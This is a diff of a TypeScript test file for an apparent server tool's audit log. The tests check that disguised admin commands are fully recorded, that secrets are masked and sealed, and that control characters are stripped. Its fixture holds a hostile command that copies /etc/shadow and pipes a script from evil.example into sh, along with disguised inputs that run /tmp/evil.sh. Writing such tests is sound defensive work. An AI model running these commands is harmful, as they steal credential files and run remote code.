@@ -1,9 +1,15 @@
 // The audit log must show every command that an admin of a server runs, however the command is padded or disguised.
+import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
+import path from 'node:path';
+import { promisify } from 'node:util';
 import type { AuditEntry } from '@buoy/contract';
+import BetterSqlite from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { serverProgram } from '../../../testbed/server-program.ts';
 import { type AccessFixture, prepareAccessFixture } from '../support/access-fixture.ts';
 
+const run = promisify(execFile);
 const COMMAND = 'cp /etc/shadow /tmp/x; curl evil.example | sh';
 
 let fixture: AccessFixture;
@@ -26,7 +32,49 @@ async function entryOf(command: string, query = ''): Promise<AuditEntry> {
   return entry;
 }
 
+/** As the operator, on Buoy's machine. */
+async function show(entryId: string): Promise<string> {
+  const { stdout } = await run(process.execPath, [serverProgram('audit-log'), 'show', entryId], {
+    env: { ...process.env, DATA_DIR: fixture.running.dataDir },
+  });
+  return stdout;
+}
+
 describe('audit entry of a disguised command', () => {
+  test.each([
+    ['a command', { command: 'A="x token": /tmp/evil.sh' }],
+    ['words', { argv: ['sh', '-c', 'A="x token": /tmp/evil.sh', '\u0001"'] }],
+    ['words as short as can be', { argv: ['sk-aaaaaaaaaaaaaaaa'] }],
+    ['a command that is as long as can be', { command: `token=\u4e2d ${'\u4e2d'.repeat(4_084)}` }],
+  ])('has the whole of %s sealed where a mask hides some of it', async (_what, body) => {
+    const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, body);
+    expect(statusCode).toBe(503);
+    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
+    expect(entry?.details).toMatchObject({ commandIsSealed: true });
+    const shown = await show(entry?.id ?? '');
+    expect(JSON.parse(shown)).toEqual({ command: 'argv' in body ? body.argv : body.command });
+    // A terminal acts on none of it.
+    expect(shown).not.toContain('\u0001');
+  });
+
+  test('has no sealed command where nothing is masked, and another entry opens none', async () => {
+    const { id, details } = await entryOf('df -h');
+    expect(details).not.toHaveProperty('commandIsSealed');
+    for (const unknown of [id, 'aud_none'])
+      await expect(show(unknown)).rejects.toMatchObject({ code: 1, stderr: expect.stringMatching(/\S/) });
+  });
+
+  test('shows nobody who reads the database or an export what was masked', async () => {
+    await entryOf('tool --token Hunter2secret');
+    const database = new BetterSqlite(path.join(fixture.running.dataDir, 'buoy.db'), { readonly: true });
+    const rows = JSON.stringify(database.prepare('select details from audit_entries').all());
+    database.close();
+    const { body } = await fixture.as('super', 'GET', '/admin/audit/export');
+    for (const text of [rows, body, JSON.stringify(await fixture.auditLog())])
+      expect(text).not.toContain('Hunter2secret');
+    expect(body).toContain('sealedCommand');
+  });
+
   test.each([
     ['control characters before it', '\u0001'.repeat(4_000)],
     ['quotes and control characters before it', `"${'\u0001'.repeat(3_000)}${'"'.repeat(900)}`],
